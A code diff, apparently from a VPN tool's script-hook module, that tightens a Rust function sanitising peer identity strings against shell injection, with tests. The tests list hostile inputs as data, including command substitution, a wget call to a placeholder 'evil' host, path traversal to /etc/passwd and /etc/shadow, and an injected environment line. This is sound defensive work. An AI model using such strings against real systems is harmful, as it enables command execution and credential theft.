@@ -206,16 +206,15 @@ fn ports(local: &Selector, remote: &Selector) -> (String, String) {
     (told(local.ports), told(remote.ports))
 }
 
-/// An identity as text that means nothing to a shell or to the command line of a program, also where a script forgets
-/// to quote it or evaluates it. A mail address, a host name and a distinguished name stay as they are.
+/// An identity as one word that is neither an option nor a path, and in which a shell finds nothing to do, also where
+/// a script forgets to quote it or evaluates it. A mail address, a host name and an IP address stay as they are.
 fn plain(identity: &str) -> String {
     let mut text = String::new();
     for c in identity.chars().take(IDENTITY_MAX) {
-        let begins_a_word = text.is_empty() || text.ends_with(' ');
         let harmless = match c {
-            // What begins with it is an option.
-            '-' => !begins_a_word,
-            ' ' | '@' | '.' | '_' | ':' | '/' | '=' | ',' | '+' | '%' => true,
+            // What begins with one of these is an option, a file with more of them, or a hidden file or a directory.
+            '-' | '+' | '@' | '.' | '=' | '%' => !text.is_empty(),
+            '_' | ':' | ',' => true,
             c => c.is_alphanumeric(),
         };
         text.push(if harmless { c } else { '_' });
@@ -250,8 +249,8 @@ pub(super) mod tests {
             local: "192.0.2.1:4500".parse().unwrap(),
             remote: "203.0.113.5:4500".parse().unwrap(),
             local_identity: "box".to_owned(),
-            claimed_identity: None,
             remote_identity: "vpn.example.org".to_owned(),
+            claimed_identity: None,
             assigned: vec!["fd99::2".parse().unwrap(), "10.99.0.2".parse().unwrap()],
             dns: vec!["9.9.9.9".parse().unwrap(), "2620:fe::fe".parse().unwrap()],
             lent: Vec::new(),
@@ -371,39 +370,40 @@ pub(super) mod tests {
         for (identity, told) in [
             ("vpn.example.org", "vpn.example.org"),
             ("alice+phone@example.org", "alice+phone@example.org"),
-            ("C=XX, O=lab, CN=alice", "C=XX, O=lab, CN=alice"),
+            ("C=XX, O=lab, CN=alice", "C=XX,_O=lab,_CN=alice"),
             ("büro-münchen.example", "büro-münchen.example"),
             ("2001:db8::1", "2001:db8::1"),
             ("x\nPLUTO_VERB=down\0y", "x_PLUTO_VERB=down_y"),
-            ("$(reboot) `id` \"'\\", "__reboot_ _id_ ___"),
+            ("$(reboot) `id` \"'\\", "__reboot___id_____"),
             ("a;b|c&d>e<f", "a_b_c_d_e_f"),
             (
                 "* ? [a] {a,b} ~root !x #y ^z",
-                "_ _ _a_ _a,b_ _root _x _y _z",
+                "_____a___a,b___root__x__y__z",
             ),
-            ("-rf --help a-b", "_rf _-help a-b"),
+            ("-rf --help a-b", "_rf_--help_a-b"),
             ("\u{1b}[2J\u{202e}", "__2J_"),
+            // Behind `env ID=`, a blank would begin a command.
+            (
+                "x /usr/bin/wget http://evil/f",
+                "x__usr_bin_wget_http:__evil_f",
+            ),
+            ("x\tid", "x_id"),
+            ("x\u{a0}y\u{3000}z", "x_y_z"),
+            // A file of that name is in the directory of such files.
+            ("..", "_."),
+            ("../../etc/passwd", "_._.._etc_passwd"),
+            ("/etc/passwd", "_etc_passwd"),
+            ("a/../../b", "a_.._.._b"),
+            (".profile", "_profile"),
+            // `curl -d`, `set`.
+            ("@/etc/shadow", "__etc_shadow"),
+            ("+x", "_x"),
         ] {
             assert_eq!(plain(identity), told);
         }
         assert_eq!(plain(&"ä".repeat(60_000)).chars().count(), IDENTITY_MAX);
     }
 
-    #[test]
-    fn no_value_has_a_nul_whatever_the_engine_says() {
-        let mut carried = carried();
-        carried.local_identity = "\0".to_owned();
-        carried.remote_identity = "a\0b".to_owned();
-        carried.assigned = vec!["10.0.0.1".parse().unwrap(); 100_000];
-        let environment = environment(&carried, Verb::Up);
-        assert!(environment.values().all(|value| !value.contains('\0')));
-        assert!(environment.len() < 60, "{}", environment.len());
-    }
-
-    #[test]
-    fn a_port_of_a_nat_changes_nothing_and_an_address_does() {
-        let variables = |carried: &Carried, ike_sa| {
-            let child = &carried.children[0];
     #[test]
     fn who_logs_in_is_told_of_as_strongswan_tells() {
         let mut carried = carried();
@@ -431,6 +431,21 @@ pub(super) mod tests {
         assert_eq!(said, "x__bin_echo_evil\nx__bin_echo_evil\n");
     }
 
+    #[test]
+    fn no_value_has_a_nul_whatever_the_engine_says() {
+        let mut carried = carried();
+        carried.local_identity = "\0".to_owned();
+        carried.remote_identity = "a\0b".to_owned();
+        carried.assigned = vec!["10.0.0.1".parse().unwrap(); 100_000];
+        let environment = environment(&carried, Verb::Up);
+        assert!(environment.values().all(|value| !value.contains('\0')));
+        assert!(environment.len() < 60, "{}", environment.len());
+    }
+
+    #[test]
+    fn a_port_of_a_nat_changes_nothing_and_an_address_does() {
+        let variables = |carried: &Carried, ike_sa| {
+            let child = &carried.children[0];
             let pair = (&child.local[0], &child.remote[0]);
             Variables::new(PLACE, carried, pair, (ike_sa, 1))
         };
